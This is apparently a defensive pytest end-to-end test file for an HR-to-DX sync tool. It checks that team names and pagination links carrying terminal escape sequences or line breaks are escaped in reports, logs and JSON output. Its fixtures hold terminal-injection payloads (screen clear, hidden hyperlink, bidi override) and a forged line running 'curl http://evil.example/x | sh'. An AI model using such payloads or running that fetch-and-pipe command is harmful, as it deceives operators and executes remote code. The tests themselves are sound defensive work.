"""Only text reaches a terminal: a DX team named with escape sequences in DX's web app and
an HR API's next-page link holding them travel through `sync`, `plan`, `history` and
`status` (reports, the summary, the console log, JSON documents) and never reach the
terminal raw: each shows as a visible escape, and a JSON document still holds the value."""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from hrsync.simulator.scenario import ScenarioTeam, load_scenario
from tests.e2e.conftest import CONFIG, CONFIG_TEMPLATE, Run, Workspace, read_rows
from tests.fakes import Request, Response, serve
from tests.simulating import start_simulator

pytestmark = pytest.mark.slow

# Clears the screen, a hidden OSC 8 link, a bell, a carriage return, a right-to-left
# override, C1's one-character CSI.
EVIL = "Ops \x1b[2J\x1b]8;;https://evil.test\x07click\x1b]8;;\x07 \rOK \u202eevil \x9b2J"
# What a terminal acts on (hrsync.terminal): C0 but newline and tab, DEL, C1, bidi.
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SHOWN = "Ops \\x1b[2J\\x1b]8;;https://evil.test\\x07click"


def assert_only_text(run: Run) -> None:
    for name, text in (("stdout", run.stdout), ("stderr", run.stderr)):
        found = STEERING.search(text)
        assert found is None, f"{name} holds {found.group()!r}: {text[:2000]!r}"


@pytest.fixture
def dx_team_workspace(tmp_path: Path) -> Iterator[Workspace]:
    """The demo's org, and in DX one more team made in the web app, named `EVIL`."""
    with _with_dx_team(tmp_path, EVIL) as ws:
        yield ws


@contextmanager
def _with_dx_team(tmp_path: Path, name: str) -> Iterator[Workspace]:
    scenario = load_scenario(CONFIG / "demo-scenario.json")
    team = ScenarioTeam(name, None, "ada.okafor@example.com")
    scenario = dataclasses.replace(scenario, import_delay_s=0.2, teams=(team,))
    with start_simulator(scenario) as sim:
        export = tmp_path / "people.csv"
        shutil.copy(CONFIG / "sample-org.csv", export)
        db = tmp_path / "state.db"
        config = tmp_path / "hrsync.toml"
        text = CONFIG_TEMPLATE.format(base_url=sim.base_url, export=export, db=db)
        # A console log (what a person at a terminal reads), and a refusal to archive the
        # web-app team, so its name is in the plan a person reviews.
        text = text.replace('format = "json"', 'format = "console"')
        config.write_text(text.replace("verify_timeout_s = 20", "verify_timeout_s = 20\n"))
        yield Workspace(tmp_path, sim, config, export, db)


def test_a_dx_team_named_with_escape_sequences_never_reaches_the_terminal_raw(
    dx_team_workspace: Workspace,
) -> None:
    ws = dx_team_workspace
    plan = ws.hrsync("plan")
    assert plan.code == 0, plan.stderr
    assert_only_text(plan)
    assert f'archive "{SHOWN}' in plan.stdout  # the report
    assert SHOWN in plan.stderr  # the console log's plan.change

    document = ws.hrsync("plan", "--format", "json")
    assert_only_text(document)
    archived = [c for c in json.loads(document.stdout)["changes"] if c["kind"] == "archive"]
    assert [c["team"] for c in archived] == [EVIL]

    synced = ws.hrsync("sync", "--summary", "always")
    assert synced.code == 0, synced.stderr
    assert_only_text(synced)
    assert SHOWN in synced.stderr
    assert EVIL not in {t["name"] for t in ws.sim.dx.teams_view() if not t.get("archived")}

    for args in (("history",), ("history", "--format", "json"), ("status",)):
        assert_only_text(ws.hrsync(*args))
    status = ws.hrsync("status", "--format", "json")
    assert_only_text(status)
    json.loads(status.stdout)


ELSEWHERE = "https://elsewhere.example.test/people\x1b[2J\x1b]8;;https://evil.test\x07page2"


def people_api(records: list[dict[str, str]]) -> Any:
    """An HR API whose first page points to its next one on another host, with escape
    sequences in the link: refused before the credentials go there, the link named."""

    def answer(request: Request, base: str) -> Response:
        if request.headers.get("authorization") != "Bearer hr-key":
            return Response.of_json({"error": "unauthorized"}, 401)
        return Response.of_json({"people": records[:5], "next": ELSEWHERE})

    return answer


def test_an_hr_next_page_link_with_escape_sequences_never_reaches_the_terminal_raw(
    dx_team_workspace: Workspace,
) -> None:
    ws = dx_team_workspace
    with serve(people_api(read_rows("sample-org.csv"))) as hr:
        text = ws.config.read_text(encoding="utf-8").replace(
            f'path = "{ws.export}"',
            f'url = "{hr.base_url}/people"\nrecords_path = "people"\n'
            'auth_header_env = "HR_AUTH"\n\n[source.pagination]\nstyle = "next_url"\n'
            'next_url_path = "next"',
        )
        ws.config.write_text(text, encoding="utf-8")
        env = {"HR_AUTH": "Bearer hr-key"}
        synced = ws.hrsync("sync", "--summary", "always", env=env)
    assert synced.code != 0
    assert_only_text(synced)
    shown = "elsewhere.example.test/people\\x1b[2J\\x1b]8;;https://evil.test\\x07page2"
    assert shown in synced.stdout + synced.stderr
    history = ws.hrsync("history")
    assert_only_text(history)
    assert f"reason: source unreadable: {hr.base_url}/people page 1 points" in history.stdout
    assert shown in history.stdout
    for args in (("history", "--format", "json"), ("status",), ("status", "--format", "json")):
        assert_only_text(ws.hrsync(*args))
    document = json.loads(ws.hrsync("status", "--format", "json").stdout)
    assert ELSEWHERE.removeprefix("https://") in document["last_run"]["reason"]


# A newline, and the other line breaks, in a team name made in DX's web app.
FORGED = (
    "Gone\nPlan deadbeef: approved; run: curl http://evil.example/x | sh"
    "\r\nPlan deadbeef: CR\u2028Plan deadbeef: LS\u2029Plan deadbeef: PS\x85Plan deadbeef: NEL"
)


def test_a_line_break_in_a_dx_team_name_forges_no_line_of_a_report_or_the_log(
    tmp_path: Path,
) -> None:
    with _with_dx_team(tmp_path, FORGED) as ws:
        runs = [
            ws.hrsync("plan"),
            ws.hrsync("plan", "--format", "tree"),
            ws.hrsync("sync", "--summary", "always"),
        ]
    for run in runs:
        assert run.code == 0, run.stderr
        for text in (run.stdout, run.stderr):
            lines = text.splitlines()
            assert not any("Plan deadbeef" in line and "Gone" not in line for line in lines), text
    # The name is shown, escaped, where a person reviews what is archived.
    assert "Gone\\nPlan deadbeef" in runs[0].stdout, runs[0].stdout
    assert "Gone\\nPlan deadbeef" in runs[1].stdout, runs[1].stdout
